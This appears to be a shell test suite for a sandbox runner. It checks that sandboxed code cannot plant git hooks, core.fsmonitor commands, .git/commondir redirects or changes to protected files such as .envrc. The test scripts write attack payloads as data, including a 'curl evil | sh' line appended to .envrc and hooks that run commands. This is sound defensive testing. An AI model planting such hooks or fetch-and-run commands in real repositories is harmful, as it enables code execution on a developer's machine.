# Protected paths (sbxrun(1), Filesystem): inside the workdir, .git/hooks and
# .git/config stay read-only, and so does every --protect path, so that
# code in the sandbox cannot plant commands the caller's git runs later.
# Swapping them out (rename, remove, a new .git) must fail too. Run for
# $SBX_BACKEND (default namespaces).
. "$(dirname "$0")/jail-lib.sh"

# A repository-like workdir (no git needed: the layout is what counts).
make_repo() {
	new_wd
	mkdir -p "$WD/.git/hooks" "$WD/.git/objects" "$WD/src"
	printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n' >"$WD/.git/config"
	echo 'ref: refs/heads/main' >"$WD/.git/HEAD"
	echo '#!/bin/sh' >"$WD/.git/hooks/pre-commit.sample"
	echo 'print(1)' >"$WD/src/app.py"
	fsum "$WD/.git/config" >"$T/config.before"
	ls -A "$WD/.git/hooks" >"$T/hooks.before"
}

config_unchanged() {
	is "$(fsum "$WD/.git/config")" "$(cat "$T/config.before")" "$1"
}

hooks_unchanged() {
	is "$(ls -A "$WD/.git/hooks" 2>&1)" "$(cat "$T/hooks.before")" "$1"
}

# --- direct writes ------------------------------------------------------------
for mode in strict open; do
	make_repo
	jail_sh "$SBX_T_PRELUDE
t hook sh -c 'printf \"#!/bin/sh\\ntouch /tmp/pwned\\n\" >.git/hooks/pre-commit && chmod +x .git/hooks/pre-commit'
t sample sh -c 'echo evil >>.git/hooks/pre-commit.sample'
t config sh -c 'printf \"[core]\\n\\tfsmonitor = touch /tmp/pwned\\n\" >>.git/config'
t config_tmp sh -c 'cp .git/config .git/config.new && echo evil >>.git/config.new && mv .git/config.new .git/config'
t app sh -c 'echo print\\(2\\) >src/app.py'
exit 0" --fs "$mode" -w "$WD"
	is_status 0 "$mode: the git script ran"
	absent "$mode: a hook written inside does not appear on the host" "$WD/.git/hooks/pre-commit"
	config_unchanged "$mode: .git/config is unchanged (append, rename over it)"
	is "$(cat "$WD/src/app.py")" "print(2)" "$mode: the rest of the workdir stays writable (control)"
	failed_inside "$mode: writing a hook fails inside" hook
	failed_inside "$mode: appending to .git/config fails inside" config
	jail_sh "rm -rf .git/hooks; mv .git/hooks .git/hooks-old; exit 0" --fs "$mode" -w "$WD"
	hooks_unchanged "$mode: .git/hooks is unchanged (no rename, no removal)"
	absent "$mode: no .git/hooks-old on the host" "$WD/.git/hooks-old"
done

# --- swapping .git for another ------------------------------------------------
make_repo
jail_sh "$SBX_T_PRELUDE
t mv_git mv .git .git-old
t new_git sh -c 'mkdir -p .git/hooks && echo evil >.git/hooks/post-checkout && printf \"[core]\\n\\tfsmonitor = evil\\n\" >.git/config'
t rm_git rm -rf .git
t ln_config ln .git/config cfg-link
t sym sh -c 'rm -rf .git/hooks; ln -s ../src .git/hooks'
exit 0" -w "$WD"
is_status 0 "the .git-swapping script ran"
absent "renaming .git away fails (no .git-old on the host)" "$WD/.git-old"
config_unchanged "after the swap attempts .git/config is unchanged"
hooks_unchanged "after the swap attempts .git/hooks is unchanged"
absent "no post-checkout hook on the host" "$WD/.git/hooks/post-checkout"
ok ".git/hooks is still a directory, not a symlink" sh -c "[ -d '$WD/.git/hooks' ] && [ ! -L '$WD/.git/hooks' ]"
absent "no hard link to .git/config was made in the workdir" "$WD/cfg-link"

# --- a workdir that is a git directory itself ----------------------------------------
# A bare repository (a CI mirror) as the workdir: its config and hooks are
# what .git's are elsewhere, so they stay read-only, and a commondir or
# config.worktree made there is moved aside. They were neither: appending
# core.fsmonitor to config ran the command at the caller's next git.
new_wd
mkdir -p "$WD/hooks" "$WD/objects" "$WD/refs"
echo 'ref: refs/heads/main' >"$WD/HEAD"
printf '[core]\n\tbare = true\n' >"$WD/config"
fsum "$WD/config" >"$T/bare.before"
jail_sh "$SBX_T_PRELUDE
t config sh -c 'printf \"[core]\\n\\tfsmonitor = evil\\n\" >>config'
t hook sh -c 'echo evil >hooks/post-update'
t worktree sh -c 'echo evil >config.worktree'
t common sh -c 'echo ../elsewhere >commondir'
t other sh -c 'echo fine >refs/x'
exit 0" -w "$WD"
is_status 0 "a bare repository as the workdir: the script ran"
is "$(fsum "$WD/config")" "$(cat "$T/bare.before")" "... its config is unchanged"
absent "... no hook was written" "$WD/hooks/post-update"
absent "... a config.worktree made there was moved aside" "$WD/config.worktree"
absent "... and a commondir" "$WD/commondir"
is "$(cat "$WD/refs/x" 2>&1)" fine "... the rest of it stays writable (control)"
# The control: in a workdir that is no git directory, config and hooks
# are names like any other.
new_wd
jail_sh "mkdir hooks && echo mine >hooks/x && echo mine >config; exit 0" -w "$WD"
is "$(cat "$WD/config" "$WD/hooks/x" 2>&1 | tr '\n' ' ')" "mine mine " \
    "in a workdir that is no git directory, config and hooks/ may be made (control)"

# --- opens with O_PATH ------------------------------------------------------------
# With O_PATH, open(2) ignores every flag but O_CLOEXEC, O_DIRECTORY and
# O_NOFOLLOW: the descriptor can neither read nor write. Under landlock the
# name supervisor traps an open by its write bits, and made such an open
# itself, and failed with EBADF (an O_PATH descriptor cannot be handed
# over): it lets it go on now, and the kernel still cuts and writes
# nothing.
make_repo
echo keep >"$WD/src/data"
cat >"$WD/opath.py" <<'EOF2'
import os
for p in (".git/config", "src/data"):
    try:
        fd = os.open(p, os.O_PATH | os.O_RDWR | os.O_TRUNC | os.O_CREAT, 0o644)
        print("opath", p, os.path.samestat(os.fstat(fd), os.stat(p)))
    except OSError as e:
        print("opath", p, "errno", e.errno)
EOF2
jail_sh "$PY opath.py" -w "$WD"
is_status 0 "O_PATH opens with write bits: the run"
like "$(cat "$T/out")" "opath .git/config True" "an O_PATH open of .git/config with write bits succeeds"
like "$(cat "$T/out")" "opath src/data True" "an O_PATH open of a workdir file with write bits succeeds"
config_unchanged "the O_PATH open with O_TRUNC left .git/config unchanged"
is "$(cat "$WD/src/data")" keep "the O_PATH open with O_TRUNC cut nothing"

# --- the caller's git afterwards ---------------------------------------------------
# What counts is what the caller's own git runs later. Besides hooks/ and
# config, git takes both from the directory named in .git/commondir (the
# worktree layout): plant one pointing at a config in the workdir, then run
# the host's git there and see whether the planted command ran.
if command -v git >/dev/null 2>&1; then
	new_wd
	ran=$JT/git-command-ran
	git_host() {
		env -u GIT_DIR -u GIT_WORK_TREE GIT_CONFIG_NOSYSTEM=1 HOME="$JT/home" \
		    GIT_CEILING_DIRECTORIES="$(dirname "$WD")" git -C "$WD" "$@"
	}
	git_host init -q . || diag "git init failed"
	jail_sh "mkdir -p planted/hooks planted/objects planted/refs
echo 'ref: refs/heads/main' >planted/HEAD
printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"touch $ran; false\"\\n' >planted/config
printf '#!/bin/sh\\ntouch $ran\\n' >planted/hooks/pre-commit
chmod +x planted/hooks/pre-commit
echo ../planted >.git/commondir
printf '#!/bin/sh\\ntouch $ran\\n' >.git/hooks/pre-commit
exit 0" -w "$WD"
	is_status 0 "the git-planting script ran"
	git_host status >/dev/null 2>&1
	git_host -c user.name=t -c user.email=t@t commit -q --allow-empty -m x >/dev/null 2>&1
	absent "the caller's git status/commit runs nothing planted in the sandbox (.git/commondir)" "$ran"
else
	fail "git is not installed: cannot run the caller's git afterwards (install git)"
fi

# --- no hooks directory yet -------------------------------------------------------
make_repo
rm -rf "$WD/.git/hooks"
jail_sh "mkdir -p .git/hooks; echo evil >.git/hooks/pre-commit; exit 0" -w "$WD"
is_status 0 "a repository without .git/hooks: the script ran"
absent "a missing .git/hooks cannot be planted" "$WD/.git/hooks/pre-commit"

# --- a worktree: .git is a file ---------------------------------------------------
new_wd
echo "gitdir: $JT/main/.git/worktrees/wt" >"$WD/.git"
fsum "$WD/.git" >"$T/gitfile.before"
jail_sh "echo 'gitdir: /tmp/evil' >.git; rm -f .git; mv .git git-moved; exit 0" -w "$WD"
is_status 0 "a worktree's .git file: the script ran"
is "$(fsum "$WD/.git")" "$(cat "$T/gitfile.before")" "a worktree's .git file is unchanged"
absent "a worktree's .git file cannot be renamed" "$WD/git-moved"

# --- --protect ------------------------------------------------------------------
new_wd
echo 'export SAFE=1' >"$WD/.envrc"
mkdir -p "$WD/conf/deep"
echo 'safe' >"$WD/conf/deep/settings.ini"
echo 'free' >"$WD/conf/other.ini"
fsum "$WD/.envrc" >"$T/envrc.before"
fsum "$WD/conf/deep/settings.ini" >"$T/ini.before"
jail_sh "$SBX_T_PRELUDE
t other sh -c 'echo changed >conf/other.ini'
t envrc sh -c 'echo \"curl evil | sh\" >>.envrc'
t envrc_mv sh -c 'mv .envrc envrc-old && echo evil >.envrc'
t ini sh -c 'echo evil >conf/deep/settings.ini'
t deep_mv mv conf/deep conf/deep-old
t conf_mv mv conf conf-old
exit 0" --protect .envrc --protect conf/deep/settings.ini -w "$WD"
is_status 0 "--protect: the script ran"
is "$(fsum "$WD/.envrc")" "$(cat "$T/envrc.before")" "--protect .envrc: unchanged on the host"
absent "--protect .envrc: cannot be renamed away" "$WD/envrc-old"
is "$(fsum "$WD/conf/deep/settings.ini")" "$(cat "$T/ini.before")" \
    "--protect conf/deep/settings.ini: unchanged on the host"
absent "--protect: the protected file's directory cannot be renamed" "$WD/conf/deep-old"
absent "--protect: no ancestor of the protected file can be renamed" "$WD/conf-old"
is "$(cat "$WD/conf/other.ini")" changed "--protect: its neighbours stay writable (control)"

# A protected directory.
new_wd
mkdir -p "$WD/ci"
echo 'run: make' >"$WD/ci/pipeline.yml"
jail_sh "echo evil >ci/pipeline.yml; echo evil >ci/new.yml; rm -rf ci; exit 0" --protect ci -w "$WD"
is_status 0 "--protect DIR: the script ran"
is "$(cat "$WD/ci/pipeline.yml" 2>&1)" "run: make" "--protect DIR: a file in it is unchanged"
absent "--protect DIR: no new file in it" "$WD/ci/new.yml"

# No repository and no protected file yet: the sandbox must not be able to
# leave them, or the caller's next git command (or direnv) there would run
# what it planted. No backend can keep one name from being made without
# writing the caller's disk (a read-only placeholder needs an entry to
# cover): what was made is moved aside after the run, under a name no git
# or direnv reads. A link planted on the way must not aim that elsewhere.
new_wd
echo before >"$WD/existing.txt"
mkdir -p "$JT/elsewhere"
echo keep-me >"$JT/elsewhere/app.ini"
jail_sh "$SBX_T_PRELUDE
t init git init -q .
t plant sh -c 'mkdir -p .git/hooks && echo evil >.git/hooks/pre-commit'
t envrc sh -c 'echo evil >.envrc'
t deep sh -c 'mkdir -p conf && echo evil >conf/app.ini'
t link sh -c 'mkdir -p lib && ln -s $JT/elsewhere lib/x'
t ok sh -c 'echo fine >notes.txt'
t existing sh -c 'echo after >existing.txt'
exit 0" --protect .envrc --protect conf/app.ini --protect lib/x/app.ini -w "$WD"
is_status 0 "no .git yet: the script ran"
absent "no .git yet: git init inside leaves no repository on the host" "$WD/.git"
absent "a protected path that did not exist: nothing is left there" "$WD/.envrc"
absent "a protected path below a directory that did not exist: not left either" "$WD/conf/app.ini"
is "$(cat "$JT/elsewhere/app.ini" 2>&1)" keep-me \
    "a link planted on the way to a protected path leads nothing astray"
is "$(cat "$WD/notes.txt" 2>&1)" fine "other new files in the workdir still appear (control)"
is "$(cat "$WD/existing.txt")" after "an existing file in the workdir stays writable (control)"
ok "the .git made inside was moved aside" test -d "$WD/.git.sbxrun-untrusted.1"
like "$(jget warnings)" "the sandbox made .git, where nothing may be made; it was moved aside to .git.sbxrun-untrusted.1" \
    "a warning names what was moved aside"

# The same in a kept temp workdir.
jail_sh "mkdir -p .git/hooks; echo evil >.git/hooks/pre-commit; echo fine >notes.txt; exit 0" --keep
tmpwd=$(jget workdir)
ok "--keep: the temp workdir is kept" test -d "$tmpwd"
absent "--keep: no .git is left in a kept temp workdir" "$tmpwd/.git"
is "$(cat "$tmpwd/notes.txt" 2>&1)" fine "--keep: other new files stay (control)"
case $tmpwd in /tmp/sbxrun.* | "${TMPDIR:-/tmp}"/sbxrun.*) rm -rf "$tmpwd" ;; esac

# A temp workdir that is not kept, on the caller's disk under landlock:
# removed whole, but the repository made at its top is still named in
# warnings (SPEC section 7 makes no exception for it). Under namespaces
# such a workdir lives inside the jail.
if [ "$SBX_BACKEND" = landlock ]; then
	jail_sh "mkdir -p .git/hooks; echo evil >.git/hooks/pre-commit; exit 0"
	is_status 0 "a temp workdir not kept: the run"
	like "$(jget warnings)" "the sandbox made .git, where nothing may be made" \
	    "a temp workdir not kept: warnings name the .git made at its top"
fi

done_testing
